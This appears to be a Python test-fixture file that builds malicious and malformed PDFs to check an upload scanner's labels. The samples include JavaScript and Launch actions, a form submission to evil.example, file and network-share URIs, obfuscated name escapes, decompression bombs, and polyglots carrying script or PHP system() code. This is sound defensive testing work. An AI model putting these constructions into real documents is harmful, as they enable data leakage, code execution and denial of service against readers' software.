"""PDFs that act, hide, grow or never end."""

import zlib
from collections.abc import Iterator
from functools import cache

from tests.files.samples import assembled, pdf, stream, with_object_stream, word
from tests.later import Content, later

Case = tuple[str, str, Content, set[str]]
ACTIVE, BOMB, UNSAFE, BROKEN = {"file_active_content"}, {"file_bomb"}, {"file_unsafe"}, {"file_broken"}
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"

# What an object can hold that acts: name of the case → the object.
ACTIONS: dict[str, bytes] = {
    "JavaScript": SCRIPT,
    "JS alone": b"<</S/X/JS(app.alert(1))>>",
    "Launch": b"<</S/Launch/F(cmd.exe)>>",
    "EmbeddedFile": b"<</Type/EmbeddedFile>>",
    "EF": b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>",
    "EmbeddedFiles": b"<</EmbeddedFiles<</Names[]>>>>",
    "FileAttachment": b"<</Type/Annot/Subtype/FileAttachment>>",
    "RichMedia": b"<</Subtype/RichMedia>>",
    "Rendition": b"<</S/Rendition>>",
    "Movie": b"<</Subtype/Movie>>",
    "Sound": b"<</S/Sound>>",
    "3D": b"<</Subtype/3D>>",
    "XFA": b"<</XFA[(a)3 0 R]>>",
    "SubmitForm": b"<</S/SubmitForm/F(https://evil.example/)>>",
    "ImportData": b"<</S/ImportData/F(a.fdf)>>",
    "GoToR": b"<</S/GoToR/F(\\\\\\\\evil\\\\a)>>",
    "GoToE": b"<</S/GoToE>>",
    "AA": b"<</AA<</O<</S/GoTo/D(a)>>>>>>",
    "URI javascript": b"<</S/URI/URI(javascript:alert)>>",
    "URI javascript in capitals, broken": b"<</S/URI/URI(JaVa\\nScRiPt:alert)>>",
    "URI file": b"<</S/URI/URI(file:///etc/passwd)>>",
    "URI data": b"<</S/URI/URI(data:text/html,x)>>",
    "URI in hex": b"<</S/URI/URI<6a6176617363726970743a61>>>",
    "URI of a share": b"<</S/URI/URI(\\\\\\\\evil\\\\a)>>",
    "deep inside": b"[[<</A[<</B" + SCRIPT + b">>]>>]]",
}
ESCAPES: dict[str, bytes] = {
    "/J#61vaScript": b"<</S/J#61vaScript/X(app.alert(1))>>",
    "/#4a#53": b"<</S/X/#4a#53(app.alert(1))>>",
    "/#4C#61#75#6E#63#68": b"<</S/#4C#61#75#6E#63#68>>",
    "/Embedded#46ile": b"<</Type/Embedded#46ile>>",
    "/#41A": b"<</#41A<</O 3 0 R>>>>",
}


def every() -> Iterator[Case]:
    """All of them."""
    for make in (acting, openings, hidden, growing, endless, two_faced, locked, malformed):
        yield from make()


def acting() -> Iterator[Case]:
    """Each active thing as it stands, inside an object stream, and escaped."""
    for name, body in ACTIONS.items():
        yield f"pdf: {name}", "a.pdf", pdf(body), ACTIVE
        yield f"pdf: {name} in an object stream", "a.pdf", with_object_stream(body), ACTIVE
    for name, body in ESCAPES.items():
        yield f"pdf: {name}", "a.pdf", pdf(body), ACTIVE
        yield f"pdf: {name} in an object stream", "a.pdf", with_object_stream(body), ACTIVE
    yield (
        "pdf: in an object stream that is not packed",
        "a.pdf",
        with_object_stream(SCRIPT, packed=False),
        ACTIVE,
    )


def openings() -> Iterator[Case]:
    """What happens when it is opened."""
    yield "pdf: OpenAction", "a.pdf", pdf(catalog=b"/OpenAction<</S/URI/URI(https://a.example/)>>"), ACTIVE
    yield "pdf: OpenAction elsewhere", "a.pdf", pdf(b"<</S/Hide>>", catalog=b"/OpenAction 4 0 R"), ACTIVE
    yield "pdf: OpenAction without a kind", "a.pdf", pdf(catalog=b"/OpenAction<</X 1>>"), ACTIVE
    yield "pdf: AA of the page", "a.pdf", pdf(b"<</O<</S/GoTo>>>>", page=b"/AA 4 0 R"), ACTIVE
    yield (
        "pdf: OpenAction in an object stream",
        "a.pdf",
        with_object_stream(b"()", b"/OpenAction<</S/URI>>"),
        ACTIVE,
    )


def hidden() -> Iterator[Case]:
    """Where a reader that repairs files would still find it."""
    plain = pdf()
    loose = b"9 0 obj\n" + SCRIPT + b"\nendobj\n"
    yield (
        "pdf: object that no table lists",
        "a.pdf",
        plain.replace(b"xref\n", loose + b"xref\n", 1),
        ACTIVE | BROKEN,
    )
    update = loose + b"trailer\n<</Root 9 0 R>>\nstartxref\n9\n%%EOF\n"
    yield "pdf: later update", "a.pdf", plain + update, ACTIVE
    inner = b"9 0 " + SCRIPT
    loose_stream = b"8 0 obj\n" + stream(inner, b"/Type/ObjStm/N 1/First 4") + b"\nendobj\n"
    yield (
        "pdf: object stream that no table lists",
        "a.pdf",
        plain.replace(b"xref\n", loose_stream + b"xref\n", 1),
        ACTIVE,
    )
    twice = zlib.compress(zlib.compress(inner))
    odd = (
        b"<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]/Length 9>>stream\n"
        + twice.hex().encode()
    )
    yield "pdf: object stream packed oddly", "a.pdf", pdf(odd + b">\nendstream"), UNSAFE
    yield "pdf: data from outside", "a.pdf", pdf(b"<</Length 0/F(a.bin)>>stream\n\nendstream"), ACTIVE
    yield (
        "pdf: script in an annotation of the page",
        "a.pdf",
        pdf(page=b"/Annots[<</A " + SCRIPT + b">>]"),
        ACTIVE,
    )
    comment = b"%\nstream\n9 0 obj" + SCRIPT + b"endobj\n%endstream\n"
    place = plain.index(b"3 0 obj")
    yield "pdf: inside what looks like a stream", "a.pdf", lying(comment), ACTIVE | BROKEN
    assert place


def lying(comment: bytes) -> bytes:
    """An object that a byte scan takes for a stream, and that the table lists."""
    return assembled(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>",
         b"(stream\n)", SCRIPT, b"(endstream)"]
    )  # fmt: skip


def growing() -> Iterator[Case]:
    """Small here, large when opened."""

    def flate(data: bytes, filters: bytes) -> bytes:
        return pdf(b"<</Length %d/Filter%s>>stream\n%s\nendstream" % (len(data), filters, data))

    @cache
    def zeros() -> bytes:
        return zlib.compress(bytes(320_000_000), 9)

    yield "pdf: flate bomb", "a.pdf", later(lambda: flate(zeros(), b"/FlateDecode")), BOMB
    yield "pdf: flate bomb in ten parts", "a.pdf", later(lambda: pdf(*[stream(bytes(32_000_000))] * 10)), BOMB
    nested = later(lambda: flate(zlib.compress(zeros()), b"[/FlateDecode/FlateDecode]"))
    yield "pdf: flate in flate", "a.pdf", nested, BOMB
    short = later(lambda: flate(zlib.compress(zeros()), b"[/Fl/Fl]"))
    yield "pdf: flate in flate, in short", "a.pdf", short, BOMB
    blanks = later(lambda: with_object_stream(b"(" + b" " * 60_000_000 + b")"))
    yield "pdf: bomb in an object stream", "a.pdf", blanks, BOMB
    many = b"/Filter[" + b"/ASCIIHexDecode" * 50 + b"]"
    yield "pdf: fifty filters", "a.pdf", pdf(b"<</Length 2%s>>stream\n00\nendstream" % many), BOMB
    lzw = b"<</Length 3/Filter/LZWDecode>>stream\n\x80\x0b\x60\nendstream"
    yield "pdf: LZW", "a.pdf", pdf(lzw), UNSAFE
    run = b"<</Length 3000000/Filter[/RunLengthDecode/RunLengthDecode]>>stream\n" + b"\x81\0" * 1_500_000
    yield "pdf: run lengths", "a.pdf", pdf(*[run + b"\nendstream"]), BOMB | BROKEN | {""}
    image = b"<</Subtype/Image/Width 100000/Height 100000/Length 1/Filter/DCTDecode>>stream\n0\nendstream"
    yield "pdf: gigapixel picture", "a.pdf", pdf(image), BOMB
    rows = b"".join(b"%010d 00000 n \n" % 9 for _ in range(100_001))
    table = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nxref\n0 100001\n" + rows
    yield (
        "pdf: too many objects",
        "a.pdf",
        table + b"trailer\n<</Size 9/Root 1 0 R>>\nstartxref\n30\n%%EOF",
        BOMB | BROKEN,
    )


def endless() -> Iterator[Case]:
    """Loops and depths."""
    plain = pdf()
    start = plain.rindex(b"xref\n0")
    loop = plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)
    yield "pdf: table that points at itself", "a.pdf", loop, {"file_broken", "file_unsafe", ""}
    yield (
        "pdf: pages in a circle",
        "a.pdf",
        assembled(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Pages/Kids[2 0 R]/Count 1>>",
            ]
        ),
        {"file_broken", "file_bomb", "file_unsafe"},
    )
    yield "pdf: reference to itself", "a.pdf", pdf(b"4 0 R"), {"file_broken", "file_bomb", "file_unsafe", ""}
    yield (
        "pdf: length that is itself",
        "a.pdf",
        pdf(b"<</Length 4 0 R>>stream\n\nendstream"),
        BROKEN | UNSAFE | BOMB,
    )
    for depth in (5_000, 200_000):
        yield f"pdf: {depth} brackets", "a.pdf", pdf(b"[" * depth + b"]" * depth), BOMB | BROKEN | UNSAFE
        yield (
            f"pdf: {depth} dictionaries",
            "a.pdf",
            pdf(b"<</A" * depth + b" 1" + b">>" * depth),
            BOMB | BROKEN | UNSAFE,
        )
    yield "pdf: a million streams that never end", "a.pdf", pdf(b"stream\n" * 500_000), BROKEN | UNSAFE | BOMB
    wide = b"<</Type/Pages/Count 501/Kids[" + b"3 0 R " * 501 + b"]>>"
    yield (
        "pdf: too many pages",
        "a.pdf",
        assembled([b"<</Type/Catalog/Pages 2 0 R>>", wide, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]),
        {"file_too_large", "file_broken"},
    )
    yield (
        "pdf: no pages",
        "a.pdf",
        assembled([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]),
        BROKEN,
    )


def two_faced() -> Iterator[Case]:
    """A PDF that is something else as well."""
    plain = pdf()
    archive = word()
    yield "pdf: zip after", "a.pdf", plain + archive, UNSAFE
    yield (
        "pdf: zip in a stream",
        "a.pdf",
        pdf(b"<</Length %d>>stream\n%s\nendstream" % (len(archive), archive)),
        UNSAFE,
    )
    yield "pdf: zip before", "a.pdf", archive + plain, {"file_mismatch", "file_unsafe"}
    yield "pdf: line before", "a.pdf", b"\n" + plain, {"file_type"}
    yield "pdf: script before", "a.pdf", b"x='\n" + plain, {"file_type"}
    yield "pdf: HTML before", "a.pdf", b"<html>" + plain, {"file_type"}
    yield (
        "pdf: HTML at the start",
        "a.pdf",
        plain.replace(b"1.7\n", b"1.7\n%<html><script>alert(1)</script>\n", 1),
        UNSAFE,
    )
    yield (
        "pdf: PHP at the start",
        "a.pdf",
        plain.replace(b"1.7\n", b"1.7\n%<?php system('x');?>\n", 1),
        UNSAFE,
    )
    yield "pdf: tar", "a.pdf", b"%PDF-1.7\n%".ljust(257, b"x") + b"ustar\n" + plain[9:], UNSAFE
    yield "pdf: HTML after", "a.pdf", plain + b"<script>alert(1)</script>", UNSAFE
    yield "pdf: program after", "a.pdf", plain + b"MZ" + bytes(5000) + b"x", UNSAFE
    yield "pdf: GIF before", "a.pdf", b"GIF89a" + plain, {"file_type"}


def locked() -> Iterator[Case]:
    """With a password or restrictions."""
    from io import BytesIO

    from pypdf import PdfReader, PdfWriter

    for algorithm in ("RC4-128", "AES-256"):
        writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
        writer.encrypt("", "owner", algorithm=algorithm)
        out = BytesIO()
        writer.write(out)
        yield f"pdf: {algorithm} with an empty password", "a.pdf", out.getvalue(), {"file_encrypted"}
    yield "pdf: Encrypt that is nothing", "a.pdf", pdf(trailer=b"/Encrypt 3 0 R"), {"file_encrypted"}
    yield (
        "pdf: a crypt filter",
        "a.pdf",
        pdf(b"<</Length 0/Filter/Crypt>>stream\n\nendstream"),
        {"file_encrypted"},
    )


def malformed() -> Iterator[Case]:
    """Not a PDF as the standard says."""
    plain = pdf()
    yield "pdf: header alone", "a.pdf", b"%PDF-1.7\n", BROKEN
    yield "pdf: header and end", "a.pdf", b"%PDF-1.7\n%%EOF", BROKEN
    yield "pdf: no root", "a.pdf", plain.replace(b"/Root 1 0 R", b""), BROKEN
    yield "pdf: root elsewhere", "a.pdf", plain.replace(b"/Root 1 0 R", b"/Root 9 0 R"), BROKEN
    yield "pdf: places that are wrong", "a.pdf", plain.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%%%%%%\n"), BROKEN
    yield (
        "pdf: damaged stream",
        "a.pdf",
        pdf(b"<</Length 9/Filter/FlateDecode>>stream\nnot packd\nendstream"),
        BROKEN,
    )
    yield "pdf: negative size", "a.pdf", plain.replace(b"/Size 4", b"/Size -4"), BROKEN | {""}
    yield (
        "pdf: huge table",
        "a.pdf",
        plain.replace(b"xref\n0 4", b"xref\n0 4000000000"),
        BROKEN | UNSAFE | BOMB,
    )
    yield (
        "pdf: filter that nobody knows",
        "a.pdf",
        pdf(b"<</Length 0/Filter/Magic>>stream\n\nendstream"),
        UNSAFE,
    )
